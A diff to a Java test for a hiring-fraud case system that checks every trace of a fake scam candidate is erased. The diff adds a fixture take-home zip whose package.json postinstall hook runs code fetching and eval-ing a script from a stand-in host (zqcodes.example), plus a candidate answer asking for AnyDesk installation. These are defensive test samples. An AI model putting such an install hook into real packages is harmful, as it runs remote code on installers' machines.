@@ -14,8 +14,10 @@ import dev.bonafide.postgres.Database;
 import dev.bonafide.postgres.casefile.OutsideRecords;
 import dev.bonafide.testkit.hiring.FakeCandidate;
 import dev.bonafide.testkit.hiring.SignedHook;
+import dev.bonafide.testkit.interview.Zipped;
 import dev.bonafide.testkit.slack.FakeSlack;
 import dev.bonafide.testkit.slack.workspace.Channel;
+import dev.bonafide.testkit.slack.workspace.SharedFile;
 import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
@@ -24,11 +26,14 @@ import java.net.http.HttpResponse;
 import java.net.http.HttpResponse.BodyHandlers;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.security.MessageDigest;
+import java.security.NoSuchAlgorithmException;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.InstantSource;
 import java.util.ArrayList;
 import java.util.HashMap;
+import java.util.HexFormat;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
@@ -46,8 +51,22 @@ class ErasedEverywhereTest {
   private static final Duration MINUTE = Duration.ofMinutes(1);
   private static final InstantSource CLOCK = InstantSource.system();
 
+  /** A take-home test that comes with each of them: its hash goes with the last. */
+  private static final byte[] ARCHIVE =
+      Zipped.of(
+          Map.of(
+              "zq-takehome/package.json",
+              bytes(
+                  "{\"name\": \"zq-takehome\", \"scripts\": {\"postinstall\": \"node setup.js\"}}"),
+              "zq-takehome/setup.js",
+              bytes("fetch('https://zqcodes.example/x').then((it) => it.text()).then(eval);\n")));
+
+  private static final String HASH = sha256(ARCHIVE);
+
   /** What only they have, and nothing may hold once they are erased. */
-  private static final String[] MARKS = {"Quellmark", "zq.post@example.org", "zqcodes"};
+  private static final String[] MARKS = {
+    "Quellmark", "zq.post@example.org", "zqcodes", "zq-takehome", HASH
+  };
 
   private static final String RESUME =
       """
@@ -56,6 +75,18 @@ class ErasedEverywhereTest {
       Experience
       2019 - 2024 Engineer at Initech: moved the billing of four plants to event sourcing, alone.
       """;
+
+  private static byte[] bytes(String text) {
+    return text.getBytes(StandardCharsets.UTF_8);
+  }
+
+  private static String sha256(byte[] bytes) {
+    try {
+      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
+    } catch (NoSuchAlgorithmException e) {
+      throw new IllegalStateException("every Java has SHA-256", e);
+    }
+  }
 
   @TempDir(cleanup = CleanupMode.ON_SUCCESS)
   private Path folder;
@@ -100,6 +131,7 @@ class ErasedEverywhereTest {
     assertThat(cases).as("one of Slack and one of the API each; the page keeps none").hasSize(6);
     assertThat(tables.holding(MARKS))
         .contains("exhibit.text", "case_entry.report", "case_entry.subject_name");
+    assertThat(tables.holding(HASH)).as("the archive was read").contains("exhibit.text");
     assertThat(cases)
         .allSatisfy(id -> assertThat(tables.about(id)).contains("case_trait", "outside_record"));
     Instant began = CLOCK.instant();
@@ -134,13 +166,20 @@ class ErasedEverywhereTest {
 
   private static FakeCandidate candidate() {
     return new FakeCandidate("Zorbina Quellmark")
-        .resume("quellmark.txt", RESUME.getBytes(StandardCharsets.UTF_8))
+        .resume("quellmark.txt", bytes(RESUME))
         .answer("How do you work?", "I will pay you, install AnyDesk for me. Zorbina Quellmark")
         .note("Quellmark was referred by Jo.")
         .scorecard("Quellmark's camera was off.");
   }
 
   private static void askedInSlack(FakeSlack slack, CandidateLink link, int asked) {
+    String thread = slack.says(CLOSED, FakeSlack.BEN.id(), "next week?", null);
+    slack.shares(
+        CLOSED,
+        FakeSlack.BEN.id(),
+        "",
+        thread,
+        SharedFile.hosted("F" + asked, "zq-takehome.zip", "application/zip", ARCHIVE));
     String ts =
         slack
             .mention(
@@ -148,7 +187,7 @@ class ErasedEverywhereTest {
                 FakeSlack.ADA.id(),
                 "<@%s> check <%s> what of Quellmark?"
                     .formatted(FakeSlack.BOT_USER, ThreeTrackers.page(link)),
-                slack.says(CLOSED, FakeSlack.BEN.id(), "next week?", null))
+                thread)
             .ts();
     assertThat(ts).isNotEmpty();
     assertThat(
